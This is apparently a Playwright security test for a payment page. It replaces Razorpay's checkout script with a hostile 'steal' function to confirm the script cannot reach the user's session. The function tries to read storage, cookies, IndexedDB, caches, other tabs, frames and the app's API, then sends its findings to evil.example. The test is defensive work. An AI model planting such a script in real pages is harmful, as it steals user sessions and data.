// If Razorpay's script turned hostile, it would reach neither our storage nor the session (docs/decisions/0028).
import { expect, type Page, test } from "@playwright/test";
import { pages } from "#contract/paths.ts";
import { english } from "#web/english.ts";
import { openAccount, rememberedLogin } from "../steps/api-account.ts";
import { completeDraft } from "../steps/prepared-draft.ts";
import { startProductWithRazorpay } from "../steps/products/product-with-razorpay.ts";
import { storedContent } from "../steps/stored-content.ts";

let product: Awaited<ReturnType<typeof startProductWithRazorpay>>;
let urlBefore: string | undefined;

test.beforeAll(async () => {
  urlBefore = process.env["PRAVESH_URL"];
  product = await startProductWithRazorpay();
  process.env["PRAVESH_URL"] = product.url;
});
test.afterAll(async () => {
  process.env["PRAVESH_URL"] = urlBefore;
  await product.stop();
});

test("a hostile checkout script finds no session, no storage, no cookies, no other tab and no API", async ({
  page,
  context,
}) => {
  const account = await openAccount();
  const draft = await completeDraft(account);
  await arrive(page, rememberedLogin(account, draft.id), pages.payment);
  await expect(page.getByRole("button", { name: english.payment.proceed })).toBeEnabled();
  await context.addCookies([{ name: "canary", value: "cookie", url: product.url }]);
  await page.evaluate(plantCanaries);
  const planted = Object.values(await storedContent(page)).join("\n");
  for (const canary of [account.user.token, "Z1204560", "local canary", "table canary"])
    expect(planted).toContain(canary);
  // Another tab of ours is open, which answers a tab that asks for the session.
  const other = await context.newPage();
  await arrive(other, rememberedLogin(account), pages.profile);

  const stolen = await openHostileCheckout(page, product.url);
  expect(stolen.reached).toContain("script ran");
  expect(stolen.reached.filter((text) => text !== "script ran")).toEqual([]);
  for (const secret of [account.user.token, account.person.email, "Z1204560", "canary"])
    expect(stolen.left.join("\n"), secret).not.toContain(secret);
});

/** Stores the login once, in our origin only: a script for every page would also store it in the checkout's. */
async function arrive(page: Page, login: string, path: string): Promise<void> {
  await page.goto(product.url + pages.help);
  await page.evaluate((root) => sessionStorage.setItem("root", root), login);
  await page.goto(product.url + path);
}

/** Runs in the page. */
async function plantCanaries(): Promise<void> {
  localStorage.setItem("canary", "local canary");
  await caches.open("canary");
  await new Promise((resolve) => {
    const opening = indexedDB.open("canary", 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore("canary").put("table canary", 1);
    opening.onsuccess = () => resolve(opening.result.close());
  });
}

/** Pays with a checkout whose script tries everything, and sends what it found to a host of its own by leaving the page. */
async function openHostileCheckout(page: Page, url: string) {
  const left: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    left.push(route.request().url());
    return route.fulfill({ contentType: "text/html", body: "<h1>Stolen</h1>" });
  });
  await page.route("https://checkout.razorpay.com/**", (route) =>
    route.fulfill({
      contentType: "text/javascript",
      body: `(${steal.toString()})(${JSON.stringify(url)})`,
    }),
  );
  await page.getByRole("button", { name: english.payment.proceed }).click();
  await expect(page.getByRole("heading", { name: "Stolen" })).toBeVisible();
  const found = new URL(left.at(-1) ?? "https://evil.example").searchParams.get("found");
  return { left: left.map(decodeURIComponent), reached: JSON.parse(found ?? "[]") as string[] };
}

/** The hostile script. Each theft that works is named. */
async function steal(ours: string): Promise<void> {
  const found = ["script ran"];
  const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  async function attempt(name: string, theft: () => unknown): Promise<void> {
    try {
      const loot = await theft();
      if (loot) found.push(`${name}: ${typeof loot === "string" ? loot : JSON.stringify(loot)}`);
    } catch {
      // The browser refused.
    }
  }
  const call = async (path: string, options?: RequestInit) =>
    (await fetch(ours + path, { mode: "cors", ...options })).status;

  await attempt("session storage", () => sessionStorage.getItem("root"));
  await attempt("local storage", () => Object.entries(localStorage).join());
  await attempt("tables", async () => (await indexedDB.databases()).map(({ name }) => name).join());
  await attempt("caches", async () => (await caches.keys()).join());
  await attempt("cookies", () => document.cookie);
  await attempt("service worker", async () =>
    (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope).join(),
  );
  await attempt("other tabs", async () => {
    const channel = new BroadcastChannel("pravesh-session");
    const heard: unknown[] = [];
    channel.onmessage = ({ data }) => heard.push(data);
    channel.postMessage({ kind: "ask" });
    await pause(700);
    return heard.length > 0 && heard;
  });
  await attempt("opener", () => opener?.sessionStorage.getItem("root"));
  await attempt("parent", () => parent !== window && parent.sessionStorage.getItem("root"));
  await attempt("our API", () => call("/api/v1/profile"));
  await attempt("our API with credentials", () => call("/api/v1/config", { credentials: "include" }));
  await attempt("the API of its own host", async () => (await fetch("/api/v1/config")).ok);
  await attempt("our page in a frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = `${ours}/profile`;
    document.body.append(frame);
    await pause(700);
    return frame.contentWindow?.sessionStorage.length;
  });
  await attempt("a blank frame", () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow?.sessionStorage.getItem("root");
  });
  await attempt("our page in a window", async () => {
    const opened = window.open(`${ours}/profile`);
    await pause(700);
    return opened?.sessionStorage.getItem("root");
  });
  location.href = `https://evil.example/?found=${encodeURIComponent(JSON.stringify(found))}`;
}
